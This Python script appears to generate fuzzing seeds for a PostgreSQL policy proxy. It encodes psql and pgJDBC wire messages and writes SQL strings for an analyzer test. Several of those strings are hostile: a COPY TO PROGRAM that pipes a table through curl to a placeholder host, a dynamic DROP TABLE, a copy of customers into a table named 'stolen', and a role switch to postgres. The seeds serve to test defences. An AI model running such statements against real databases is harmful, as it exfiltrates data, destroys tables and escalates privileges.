#!/usr/bin/env python3
"""Writes the fuzzing seed corpus: the bytes psql and pgJDBC send, rebuilt message by message.

Each seed is a client's byte stream (what psql 16 / pgJDBC 42.7 put on the wire for a startup, a
simple query, an extended batch, a COPY FROM STDIN, a cancel), prefixed by the control bytes each
fuzz test reads first (how to split the stream into reads; the framer's limit). Rerun after
changing a seed; Jazzer adds its own findings next to these.
"""
import os
import struct

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")
PD = os.path.join(ROOT, "protocol-decoders/src/test/resources/io/portcullis")
PP = os.path.join(ROOT, "pep-proxy/src/test/resources/io/portcullis")


def msg(t, body=b""):
    return t.encode() + struct.pack(">i", len(body) + 4) + body


def cstr(s):
    return s.encode() + b"\0"


def startup(params):
    body = struct.pack(">i", 196608) + b"".join(cstr(k) + cstr(v) for k, v in params) + b"\0"
    return struct.pack(">i", len(body) + 4) + body


SSL_REQUEST = struct.pack(">ii", 8, 80877103)
GSSENC_REQUEST = struct.pack(">ii", 8, 80877104)
CANCEL = struct.pack(">iiii", 16, 80877102, 4711, 0x5EC2E7)
PSQL_STARTUP = startup([("user", "ci-runner"), ("database", "demo"),
                        ("application_name", "psql"), ("client_encoding", "UTF8")])
JDBC_STARTUP = startup([("user", "ci-runner"), ("database", "demo"), ("client_encoding", "UTF8"),
                        ("DateStyle", "ISO"), ("TimeZone", "UTC"), ("extra_float_digits", "2")])
PASSWORD = msg("p", cstr("eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJjaS1ydW5uZXIifQ.c2ln"))


def query(sql):
    return msg("Q", cstr(sql))


def parse(name, sql, oids=()):
    return msg("P", cstr(name) + cstr(sql) + struct.pack(">h", len(oids))
               + b"".join(struct.pack(">i", o) for o in oids))


def bind(portal, stmt, values=(), fmts=(), result_fmts=()):
    body = cstr(portal) + cstr(stmt) + struct.pack(">h", len(fmts)) + b"".join(struct.pack(">h", f) for f in fmts)
    body += struct.pack(">h", len(values))
    for v in values:
        body += struct.pack(">i", -1) if v is None else struct.pack(">i", len(v)) + v
    body += struct.pack(">h", len(result_fmts)) + b"".join(struct.pack(">h", f) for f in result_fmts)
    return msg("B", body)


def describe(kind, name):
    return msg("D", kind.encode() + cstr(name))


def execute(portal, rows=0):
    return msg("E", cstr(portal) + struct.pack(">i", rows))


def close(kind, name):
    return msg("C", kind.encode() + cstr(name))


SYNC, FLUSH, TERMINATE = msg("S"), msg("H"), msg("X")

SIMPLE = query("SELECT 1;")
PSQL_DESCRIBE = query("SELECT n.nspname, c.relname FROM pg_catalog.pg_class c LEFT JOIN "
                      "pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN ('r','p') "
                      "AND n.nspname <> 'pg_catalog' ORDER BY 1,2;")
MULTI = query("BEGIN; SELECT 1; COMMIT;")
# pgJDBC: a prepared SELECT with a parameter, then a batch of two INSERTs in one Sync.
JDBC_SELECT = (parse("", "SELECT 1 WHERE $1 = $1", (23,)) + bind("", "", [b"\0\0\0\x07"], (1,), ())
               + describe("P", "") + execute("", 0) + SYNC)
JDBC_BATCH = (parse("S_1", "INSERT INTO orders(id, note) VALUES($1, $2)", (23, 1043))
              + bind("", "S_1", [b"1", b"first"]) + describe("P", "") + execute("", 1)
              + bind("", "S_1", [b"2", None]) + describe("P", "") + execute("", 1) + SYNC
              + close("S", "S_1") + SYNC)
JDBC_FETCH = (parse("", "SELECT 1") + bind("C_1", "") + describe("P", "C_1") + execute("C_1", 10)
              + FLUSH + execute("C_1", 10) + close("P", "C_1") + SYNC)
COPY_IN = (query("COPY orders (id, note) FROM STDIN;") + msg("d", b"1\tfirst\n") + msg("d", b"2\t\\N\n")
           + msg("c"))
COPY_FAIL = query("COPY orders FROM STDIN;") + msg("d", b"1\tx\n") + msg("f", cstr("aborted by user"))
COPY_OUT = query("COPY (SELECT 1) TO STDOUT WITH (FORMAT csv, HEADER);")
DENIED = query("DROP TABLE orders;")
FUNCTION_CALL = msg("F", struct.pack(">ih", 1598, 0) + struct.pack(">h", 0) + struct.pack(">h", 0))

QUERY_PHASE = {
    "simple_query": SIMPLE + TERMINATE,
    "psql_describe": PSQL_DESCRIBE,
    "multi_statement": MULTI,
    "jdbc_select": JDBC_SELECT,
    "jdbc_batch": JDBC_BATCH,
    "jdbc_fetch": JDBC_FETCH,
    "copy_in": COPY_IN + SYNC,
    "copy_fail": COPY_FAIL,
    "copy_out": COPY_OUT,
    "denied_then_allowed": DENIED + SIMPLE,
    "function_call": FUNCTION_CALL,
}

STREAMS = {
    "psql_startup_query": PSQL_STARTUP + SIMPLE + TERMINATE,
    "psql_ssl_request": SSL_REQUEST,
    "gssenc_request": GSSENC_REQUEST,
    "jdbc_startup_batch": JDBC_STARTUP + JDBC_BATCH,
    "cancel_request": CANCEL,
    "psql_startup_copy": PSQL_STARTUP + COPY_IN,
}


def write(directory, name, data):
    os.makedirs(directory, exist_ok=True)
    with open(os.path.join(directory, name), "wb") as f:
        f.write(data)


def main():
    framing = os.path.join(PD, "protocol/pg/FrontendFramingFuzzTestInputs")
    for name, data in QUERY_PHASE.items():
        write(os.path.join(framing, "messages"), name, b"\x00\x80" + data)
    write(os.path.join(framing, "messages"), "jdbc_batch_bytewise", b"\x01\x80" + JDBC_BATCH)
    for name, data in STREAMS.items():
        write(os.path.join(framing, "clientStream"), name, b"\x00" + data)
    write(os.path.join(framing, "clientStream"), "psql_startup_query_split7", b"\x07" + STREAMS["psql_startup_query"])
    # The session harness sends its own startup; its seeds are the query phase, split as above.
    session = os.path.join(PP, "pg/PgSessionFuzzTestInputs/clientMessages")
    for name, data in QUERY_PHASE.items():
        write(session, name, b"\x00" + data)
    write(session, "jdbc_batch_bytewise", b"\x01" + JDBC_BATCH)
    sql = os.path.join(PD, "sql/SqlAnalyzerFuzzTestInputs/analyze")
    for name, text in {
        "select_one": "SELECT 1",
        "psql_describe": PSQL_DESCRIBE[5:-1].decode(),
        "multi": "BEGIN; SELECT 1; COMMIT;",
        "insert": "INSERT INTO orders(id, note) VALUES($1, $2)",
        "update_where": "UPDATE orders SET note = 'x' WHERE id = 7",
        "cte_write": "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
        "copy_program": "COPY orders TO PROGRAM 'curl -d @- http://x'",
        "dollar_do": "DO $$BEGIN EXECUTE 'DROP TABLE ' || 'orders'; END$$",
        "select_into": "SELECT * INTO stolen FROM customers",
        "set_role": "SELECT set_config('role', 'postgres', false)",
        "unicode_ident": "SELECT U&\"d\\0061ta\" FROM U&\"cust\\006Fmers\"",
        "masking": "SELECT substr(email, 1, 3) || 'x', row_to_json(c) FROM customers c ORDER BY 1",
        "nested_comment": "SELECT /* a /* b */ c */ 1; -- x\nSELECT E'\\'' ",
    }.items():
        write(sql, name, text.encode())


if __name__ == "__main__":
    main()
